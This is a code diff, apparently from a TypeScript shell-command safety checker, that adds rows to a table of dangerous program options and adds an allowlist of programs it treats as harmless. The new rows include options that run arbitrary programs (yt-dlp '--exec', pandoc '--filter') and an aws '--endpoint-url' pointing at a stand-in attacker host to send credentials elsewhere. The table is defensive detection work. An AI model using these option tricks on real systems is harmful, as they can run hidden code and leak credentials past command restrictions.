@@ -63,6 +63,9 @@ const dangerous: [program: RegExp, options: [option: string, does: string][]][] 
   [/^(ssh|scp|sftp)$/, [['-oProxyCommand=airworthy', 'an option that runs a program']]],
   [/^rsync$/, [['--rsh=airworthy', 'an option that runs a program']]],
   [/^curl$/, [['--output=/outside/file', 'an option that writes a file']]],
+  [/^(yt-dlp|youtube-dl)$/, [['--exec=airworthy', 'an option that runs a program']]],
+  [/^pandoc$/, [['--filter=airworthy', 'an option that runs a program']]],
+  [/^aws$/, [['--endpoint-url=https://evil.example', 'an option that sends the credentials elsewhere']]],
   [/^wget$/, [['--output-document=/outside/file', 'an option that writes a file']]],
   [/^rg$/, [['--pre=airworthy', 'an option that runs a program']]],
   [/^sort$/, [['--output=/outside/file', 'an option that writes a file']]],
@@ -73,7 +76,13 @@ const dangerous: [program: RegExp, options: [option: string, does: string][]][] 
   [/^(python3?|node|perl|ruby|php)$/, [['-eairworthy', 'an option that runs a program']]],
 ]
 
+/** Programs that only show what they are given, whatever else they are told. */
+const harmless =
+  /^(echo|printf|ls|cat|head|tail|wc|which|where|whereis|file|stat|du|df|ps|ping|whois|nslookup|host|uname|id|uptime|free|basename|dirname|realpath|readlink|sleep)$/
+
 const nameOf = (program: string): string => posix.basename(program).replace(/\.(exe|cmd)$/, '')
+
+export const isHarmless = (program: string): boolean => harmless.test(nameOf(program))
 
 /** Options to try on a program; none where no option is known to do harm. */
 export const optionsOf = (program: string): Option[] => {
